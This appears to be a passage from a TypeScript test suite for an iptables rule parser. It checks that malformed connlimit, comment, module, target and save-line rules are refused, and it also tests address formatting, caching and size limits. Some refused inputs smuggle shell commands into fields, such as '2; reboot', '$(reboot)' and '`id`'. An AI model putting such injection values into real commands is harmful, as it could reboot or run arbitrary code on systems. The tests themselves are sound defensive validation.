bad('--connlimit-above without -m connlimit', '--connlimit-above 2', '--connlimit-above', 0);
bad('connlimit without a limit', '-m connlimit', 'connlimit', 1);
bad('connlimit with only a mask', '-m connlimit --connlimit-mask 24', 'connlimit', 1);
bad('above and upto', '-m connlimit --connlimit-above 1 --connlimit-upto 2', '--connlimit-upto', 4);
bad('above twice', '-m connlimit --connlimit-above 1 --connlimit-above 2', '--connlimit-above', 4);
bad('saddr and daddr', '-m connlimit --connlimit-above 1 --connlimit-saddr --connlimit-daddr', '--connlimit-daddr', 5);
bad('daddr twice', '-m connlimit --connlimit-above 1 --connlimit-daddr --connlimit-daddr', '--connlimit-daddr', 5);
bad('count over uint32', '-m connlimit --connlimit-above 4294967296', '4294967296', 3);
bad('huge count', '-m connlimit --connlimit-above 99999999999999999999', '99999999999999999999', 3);
bad('negative count', '-m connlimit --connlimit-above -1', '-1', 3);
bad('fractional count', '-m connlimit --connlimit-above 1.5', '1.5', 3);
bad('hex count', '-m connlimit --connlimit-above 0x10', '0x10', 3);
bad('octal-looking count', '-m connlimit --connlimit-upto 010', '010', 3);
bad('count with plus', '-m connlimit --connlimit-above +2', '+2', 3);
bad('empty count', '-m connlimit --connlimit-above ""', '', 3);
bad('count as a word', '-m connlimit --connlimit-above two', 'two', 3);
bad('count with injection', '-m connlimit --connlimit-above "2; reboot"', '2; reboot', 3);
bad('! after --connlimit-above', '-m connlimit --connlimit-above ! 2', '!', 3);
bad('mask 33 on ipv4', '-m connlimit --connlimit-above 2 --connlimit-mask 33', '33', 5);
bad('mask 129 on ipv6', '-m connlimit --connlimit-above 2 --connlimit-mask 129', '129', 5, { family: 'ipv6' });
bad('negative mask', '-m connlimit --connlimit-above 2 --connlimit-mask -1', '-1', 5);
bad('mask with leading zero', '-m connlimit --connlimit-above 2 --connlimit-mask 08', '08', 5);
bad('fractional mask', '-m connlimit --connlimit-above 2 --connlimit-mask 24.5', '24.5', 5);
bad('non-contiguous dotted mask', '-m connlimit --connlimit-above 2 --connlimit-mask 255.0.255.0', '255.0.255.0', 5);
bad('address-shaped ipv6 mask', '-m connlimit --connlimit-above 2 --connlimit-mask ffff::', 'ffff::', 5, { family: 'ipv6' });
bad('! --connlimit-mask', '-m connlimit --connlimit-above 2 ! --connlimit-mask 24', '--connlimit-mask', 5);
bad('! --connlimit-daddr', '-m connlimit --connlimit-above 2 ! --connlimit-daddr', '--connlimit-daddr', 5);
bad('mask twice', '-m connlimit --connlimit-above 2 --connlimit-mask 24 --connlimit-mask 16', '--connlimit-mask', 6);
bad('missing mask', '-m connlimit --connlimit-above 2 --connlimit-mask', '--connlimit-mask', 4);
bad('two connlimit matches', '-m connlimit --connlimit-above 2 -m connlimit --connlimit-upto 3', 'connlimit', 5);
// comment
bad('-m comment without --comment', '-m comment', 'comment', 1);
bad('--comment without -m comment', '--comment x', '--comment', 0);
bad('--comment twice', '-m comment --comment a --comment b', '--comment', 4);
bad('! --comment', '-m comment ! --comment a', '--comment', 3);
bad('missing comment', '-m comment --comment', '--comment', 2);
bad('comment of 256 bytes', `-m comment --comment ${'x'.repeat(256)}`, 'x'.repeat(256), 3);
bad('comment of 256 bytes of utf-8', `-m comment --comment ${'é'.repeat(128)}`, 'é'.repeat(128), 3);
bad('comment with a tab', '-m comment --comment "a\tb"', 'a\tb', 3);
bad('comment with DEL', '-m comment --comment "a\u007fb"', 'a', 3);
bad('comment with a C1 control', '-m comment --comment "a\u0085b"', 'a\u0085b', 3);
bad('two comment matches', '-m comment --comment a -m comment --comment b', 'comment', 5);
// modules
bad('-m owner', '-m owner --uid-owner 0', 'owner', 1);
bad('length over 65535', '-m length --length 70000', '70000', 3);
bad('multiport without -p', '-m multiport --dports 1,2', 'multiport', 1);
bad('multiport under ! -p tcp', '! -p tcp -m multiport --dports 1,2', 'multiport', 4);
bad('multiport two lists', '-p tcp -m multiport --dports 1,2 --sports 3', '--sports', 6);
bad('multiport service name', '-p tcp -m multiport --dports 1,ssh', '1,ssh', 5);
bad('multiport --dport list (an abbreviation to the CLI)', '-p tcp -m multiport --dport 80,443', '--dport', 4);
bad('multiport 16 slots', '-p udp -m multiport --ports 1:2,3:4,5:6,7:8,9:10,11:12,13:14,15:16', '1:2,3:4,5:6,7:8,9:10,11:12,13:14,15:16', 5);
bad('icmp type abbreviated', '-p icmp --icmp-type echo-req', 'echo-req', 3);
bad('icmp type twice', '-p icmp --icmp-type 8 --icmp-type 0', '--icmp-type', 4);
bad('icmp under -p tcp', '-p tcp -m icmp --icmp-type 8', 'icmp', 3);
bad('icmp6 type in ipv4', '-p icmp --icmpv6-type 128', '--icmpv6-type', 2);
bad('icmp6 code range', '-p icmpv6 --icmpv6-type 1/0:3', '1/0:3', 3, { family: 'ipv6' });
bad('mac abbreviated', '-m mac --mac 42:01:02:03:04:05', '--mac', 2);
bad('mac with a dash', '-m mac --mac-source 42-01-02-03-04-05', '42-01-02-03-04-05', 3);
bad('-m upper case', '-m TCP -p tcp', 'TCP', 1);
bad('-m with injection', '-m "tcp;reboot"', 'tcp;reboot', 1);
bad('missing module', '-m', '-m', 0);
bad('! -m', '-p tcp ! -m tcp', '-m', 3);
bad('-m !', '-m ! tcp', '!', 1);
// targets
bad('jump to INPUT', '-j INPUT', 'INPUT', 1);
bad('jump to OUTPUT', '-j OUTPUT', 'OUTPUT', 1);
bad('jump to FORWARD', '-j FORWARD', 'FORWARD', 1);
bad('jump to PREROUTING', '-j PREROUTING', 'PREROUTING', 1);
bad('goto POSTROUTING', '-g POSTROUTING', 'POSTROUTING', 1);
bad('goto ACCEPT', '-g ACCEPT', 'ACCEPT', 1);
bad('goto REJECT', '-g REJECT', 'REJECT', 1);
bad('unsupported target TEE', '-j TEE', 'TEE', 1);
bad('unsupported target MASQUERADE', '-j MASQUERADE', 'MASQUERADE', 1);
bad('lower-case accept', '-j accept', 'accept', 1);
bad('lower-case reject', '-j reject', 'reject', 1);
bad('two -j', '-j ACCEPT -j DROP', '-j', 2);
bad('-j and -g', '-j USER1 -g USER1', '-g', 2);
bad('! -j', '! -j ACCEPT', '-j', 1);
bad('! -g', '! -g USER1', '-g', 1);
bad('-j !', '-j ! ACCEPT', '!', 1);
bad('missing target', '-j', '-j', 0);
bad('chain name of 29 characters', `-j ${'C'.repeat(29)}`, 'C'.repeat(29), 1);
bad('option as chain', '-j -x', '-x', 1);
bad('chain starting with a dot', '-j .chain', '.chain', 1);
bad('chain with a space', '-j "a b"', 'a b', 1);
bad('chain with quoted semicolon', '-j "a;b"', 'a;b', 1);
bad('chain with quoted command substitution', '-j "$(reboot)"', '$(reboot)', 1);
bad('chain with quoted backticks', '-j "`id`"', '`id`', 1);
bad('chain with quoted pipe', '-g "a|b"', 'a|b', 1);
bad('chain with quoted and-and', '-j "a&&b"', 'a&&b', 1);
bad('chain with a slash', '-j a/b', 'a/b', 1);
bad('non-ascii chain', '-j chaîne', 'chaîne', 1);
bad('--reject-with without -j REJECT', '--reject-with tcp-reset', '--reject-with', 0);
bad('--reject-with after -j DROP', '-j DROP --reject-with tcp-reset', '--reject-with', 2);
bad('tcp-reset without -p tcp', '-j REJECT --reject-with tcp-reset', 'tcp-reset', 3);
bad('tcp-reset with ! -p tcp', '! -p tcp -j REJECT --reject-with tcp-reset', 'tcp-reset', 6);
bad('tcp-reset with -p udp', '-p udp -j REJECT --reject-with tcp-reset', 'tcp-reset', 5);
bad('tcp-reset ipv6 without -p tcp', '-j REJECT --reject-with tcp-reset', 'tcp-reset', 3, { family: 'ipv6' });
bad('icmp-echo-reply', '-j REJECT --reject-with icmp-echo-reply', 'icmp-echo-reply', 3);
bad('echo-reply', '-j REJECT --reject-with echo-reply', 'echo-reply', 3);
bad('abbreviated reject type', '-j REJECT --reject-with icmp-h', 'icmp-h', 3);
bad('empty reject type', '-j REJECT --reject-with ""', '', 3);
bad('ipv4 reject type on ipv6', '-j REJECT --reject-with icmp-port-unreachable', 'icmp-port-unreachable', 3, { family: 'ipv6' });
bad('tcp-rst is an ipv4 alias only', '-p tcp -j REJECT --reject-with tcp-rst', 'tcp-rst', 5, { family: 'ipv6' });
bad('ipv6 reject type on ipv4', '-j REJECT --reject-with icmp6-no-route', 'icmp6-no-route', 3);
bad('not-neighbour has no CLI name', '-j REJECT --reject-with icmp6-not-neighbor', 'icmp6-not-neighbor', 3, { family: 'ipv6' });
bad('--reject-with twice', '-j REJECT --reject-with net-unreach --reject-with host-unreach', '--reject-with', 4);
bad('! --reject-with', '-j REJECT ! --reject-with net-unreach', '--reject-with', 3);
bad('missing reject type', '-j REJECT --reject-with', '--reject-with', 2);
// save lines
bad('save line without -A', 'INPUT -j ACCEPT', 'INPUT', 0, { line: true });
bad('save line -A alone', '-A', '-A', 0, { line: true });
bad('save line with a bad chain', '-A "IN PUT" -j ACCEPT', 'IN PUT', 1, { line: true });
bad('save line with a long chain', `-A ${'C'.repeat(29)} -j ACCEPT`, 'C'.repeat(29), 1, { line: true });
bad('save line with a target as chain', '-A ACCEPT -j DROP', 'ACCEPT', 1, { line: true });
bad('save line with two -A', '-A INPUT -A INPUT', '-A', 2, { line: true });
bad('save line with injection in the chain', '-A "INPUT;reboot" -j ACCEPT', 'INPUT;reboot', 1, { line: true });
bad('empty save line', '', undefined, undefined, { line: true });
bad('counters prefix is not a save line', '[0:0] -A INPUT', '[0:0]', 0, { line: true });
// family
bad('unknown family', '-j ACCEPT', undefined, undefined, { family: 'ipv5' as Family, path: 'family' });

test('at least 150 refused rules here', () => {
  assert.ok(rows.length >= 150, String(rows.length));
});

for (const row of rows) {
  test(`parse refuses: ${row.name}`, () => {
    const family = row.family ?? 'ipv4';
    const e = catchError(() => (row.line ? parseSaveLine(row.input, family) : parseRule(row.input, family)));
    assert.is(e.code, 'ERR_CONNLIMIT_INVALID');
    assert.is(e.path, row.expect.path ?? 'rule');
    assert.is(e.token, row.expect.token);
    assert.is(e.issues?.[0]?.tokenIndex, row.expect.index);
  });
}

// ---------------------------------------------------------------------------------------------
// address helpers

const ADDRESSES: { name: string; input: string; family: Family; expect: string }[] = [
  { name: 'host', input: '10.1.2.3', family: 'ipv4', expect: '10.1.2.3/32' },
  { name: 'prefix masks the host part', input: '10.1.2.3/24', family: 'ipv4', expect: '10.1.2.0/24' },
  { name: 'dotted contiguous mask prints as a prefix', input: '10.1.2.3/255.255.255.0', family: 'ipv4', expect: '10.1.2.0/24' },
  { name: 'dotted non-contiguous mask stays dotted', input: '10.1.2.3/255.0.255.0', family: 'ipv4', expect: '10.0.2.0/255.0.255.0' },
  { name: '/0', input: '10.1.2.3/0', family: 'ipv4', expect: '0.0.0.0/0' },
  { name: 'ipv6 host', input: '::1', family: 'ipv6', expect: '::1/128' },
  { name: 'ipv6 unspecified', input: '::', family: 'ipv6', expect: '::/128' },
  { name: 'ipv6 prefix', input: '2001:db8::1/32', family: 'ipv6', expect: '2001:db8::/32' },
  { name: 'ipv6 longest zero run wins', input: '2001:db8:0:0:1:0:0:1', family: 'ipv6', expect: '2001:db8::1:0:0:1/128' },
  { name: 'ipv6 later longer run wins', input: '2001:db8:0:1:0:0:0:1', family: 'ipv6', expect: '2001:db8:0:1::1/128' },
  { name: 'ipv6 single zero group stays', input: '1:0:2:3:4:5:6:7', family: 'ipv6', expect: '1:0:2:3:4:5:6:7/128' },
  { name: 'ipv6 trailing run', input: '1::', family: 'ipv6', expect: '1::/128' },
  { name: 'ipv4-compatible prints dotted (glibc)', input: '::1.2.3.4', family: 'ipv6', expect: '::1.2.3.4/128' },
  { name: 'ipv4-mapped prints dotted', input: '::ffff:1.2.3.4', family: 'ipv6', expect: '::ffff:1.2.3.4/128' },
  { name: 'nat64 prints hex', input: '64:ff9b::1.2.3.4', family: 'ipv6', expect: '64:ff9b::102:304/128' },
  { name: 'ipv6 non-contiguous mask prints as an address', input: '2001:db8::/ffff:0:ffff::', family: 'ipv6', expect: '2001::/ffff:0:ffff::' },
];

for (const row of ADDRESSES) {
  test(`address: ${row.name}`, () => {
    const r = parseAddress(row.input, row.family);
    if ('error' in r) assert.unreachable(r.error);
    else assert.is(formatAddress(r), row.expect);
  });
}

test('address: prefix and mask helpers agree', () => {
  for (let bits = 0; bits <= 128; bits++) assert.is(maskToPrefix(prefixToMask(bits, 16)), bits);
  for (let bits = 0; bits <= 32; bits++) assert.is(maskToPrefix(prefixToMask(bits, 4)), bits);
  assert.is(maskToPrefix(Buffer.from('ff00ff00', 'hex')), -1);
  assert.is(maskToPrefix(Buffer.from('fffffffe', 'hex')), 31);
  assert.is(maskToPrefix(Buffer.from('ffff7f00', 'hex')), -1);
});

test('address: formatIpv6 of every single zero-run shape matches inet_ntop rules', () => {
  // Expected strings printed by python3 socket.inet_ntop (glibc) for these words.
  const cases: [string, string][] = [
    ['00000000000000000000000000000000', '::'],
    ['00000000000000000000000000000001', '::1'],
    ['00010000000000000000000000000000', '1::'],
    ['00000000000000000000000000010000', '::0.1.0.0'],
    ['0000000000000000000000000a000001', '::10.0.0.1'],
    ['00000000000000000000ffff0a000001', '::ffff:10.0.0.1'],
    ['0000000000000000000100000a000001', '::1:0:a00:1'],
    ['00010000000100000001000000010000', '1:0:1:0:1:0:1:0'],
    ['00010000000000010000000000000001', '1:0:0:1::1'],
  ];
  for (const [hex, want] of cases) assert.is(formatIpv6(Buffer.from(hex, 'hex')), want, hex);
});

test('toNativeRule: a text seen twice is not parsed again; what the public parse hands out is a copy no caller can use to change it', () => {
  const text = '-s 10.1.0.0/16 -p tcp --syn --dport 22 -m connlimit --connlimit-above 2 -m comment --comment web -j REJECT';
  const first = toNativeRule(text, 'ipv4');
  const a = toNativeRule(text, 'ipv4');
  assert.is.not(a, first, 'a text seen once is only remembered, not its parse');
  assert.equal(a, first);
  assert.is(toNativeRule(text, 'ipv4'), a, 'from the second sighting on, served from the cache');
  for (const f of ['ipv4', 'ipv6', 'ipv4', 'ipv6'] as const) toNativeRule('-p tcp -j DROP', f);
  assert.is.not(toNativeRule('-p tcp -j DROP', 'ipv6'), toNativeRule('-p tcp -j DROP', 'ipv4'), 'cached per family');
  const before = JSON.stringify(a);
  // Change what the public parse returns: the cached parse is untouched.
  const spec = publicParse(text);
  (spec as { dport?: number }).dport = 23;
  (spec as { source?: string }).source = '10.9.0.0/16';
  (spec.connlimit as { count: number }).count = 99;
  assert.is(JSON.stringify(toNativeRule(text, 'ipv4')), before);
  assert.equal(publicParse(text), toRuleSpec(a, 'ipv4'));
  assert.is(publicParse(text).dport, 22);
});

// ---------------------------------------------------------------------------------------------
// size: rule text is refused over MAX_RULE_CHARS before it is split; messages quote input cut short

/** The longest rule the language can say: long option names, everything negated, written-out IPv6 masks, a 255-byte comment of escaped quotes. */
const IPV6_FULL = 'ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff/ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff';
const LONGEST = [
  `--protocol tcp ! --source ${IPV6_FULL} ! --destination ${IPV6_FULL}`,
  '! --in-interface abcdefghijklmno ! --out-interface abcdefghijklmn+',
  '--match tcp ! --source-port 65534:65535 ! --destination-port 65534:65535',
  '! --tcp-flags FIN,SYN,RST,PSH,ACK,URG FIN,SYN,RST,PSH,ACK,URG ! --tcp-option 255',
  '--match connlimit ! --connlimit-above 4294967295 --connlimit-mask 128 --connlimit-daddr',
  `--match comment --comment "${'\\"'.repeat(255)}" --jump REJECT --reject-with icmp6-addr-unreachable`,
].join(' ');

test('size: the longest rule the language can say is far below MAX_RULE_CHARS and parses, padded to the limit too', () => {
  assert.ok(LONGEST.length < 1200, `${LONGEST.length} characters`);
  assert.is(toRuleSpec(parseRule(LONGEST, 'ipv6'), 'ipv6').comment, '"'.repeat(255));
  const padded = `${LONGEST}${' '.repeat(MAX_RULE_CHARS - LONGEST.length)}`;
  assert.is(padded.length, MAX_RULE_CHARS);
  assert.equal(parseRule(padded, 'ipv6'), parseRule(LONGEST, 'ipv6'));
});

test('size: one character over MAX_RULE_CHARS is refused before tokenizing, by every text entry point', () => {
  // Valid but for its size: were it split, it would parse.
  const over = `-j DROP${' '.repeat(MAX_RULE_CHARS - 6)}`;
  const ten = `-j DROP${' '.repeat(10 * 1024 * 1024)}`;
  for (const [what, fn] of [
    ['parseRule', () => parseRule(over, 'ipv4')],
    ['parseRule 10 MB', () => parseRule(ten, 'ipv4')],
    ['parseSaveLine', () => parseSaveLine(`-A INPUT ${over}`, 'ipv4')],
    ['tokenize', () => tokenize(over)],
    ['toNativeRule', () => toNativeRule(ten, 'ipv6')],
    ['public parseRule', () => publicParse(ten)],
  ] as Array<[string, () => unknown]>) {
    const e = catchError(fn) as { code?: string; path?: string; token?: string; message?: string };
    assert.is(e.code, 'ERR_CONNLIMIT_INVALID', what);
    assert.is(e.path, 'rule', what);
    assert.is(e.token, undefined, `${what}: refused as a whole, no token`);
    assert.match(String(e.message), new RegExp(`at most ${MAX_RULE_CHARS}`), what);
  }
});

test('messages quote a long token cut to 64 characters with its size; the token field keeps it whole', () => {
  const long = `x${'y'.repeat(7000)}`;
  for (const text of [`-p ${long}`, `--${long}`, `-m ${long}`, `-i ${long}`, `-p tcp --dport ${long}`, `-j ${long}`]) {
    const e = catchError(() => parseRule(text, 'ipv4')) as { code?: string; token?: string; message?: string };
    assert.is(e.code, 'ERR_CONNLIMIT_INVALID', text.slice(0, 20));
    assert.ok(String(e.message).length < 400, `${text.slice(0, 20)}: a message of ${String(e.message).length} characters`);
    assert.match(String(e.message), /…'? \(\d+ bytes\)/, text.slice(0, 20));
    assert.ok(e.token !== undefined && e.token.endsWith(long), `${text.slice(0, 20)}: token ${e.token?.length}`);
  }
  // Short input is quoted whole, as before.
  assert.match(String((catchError(() => parseRule('-p bogus', 'ipv4')) as { message?: string }).message), /unknown protocol 'bogus':/);
});

test.run();
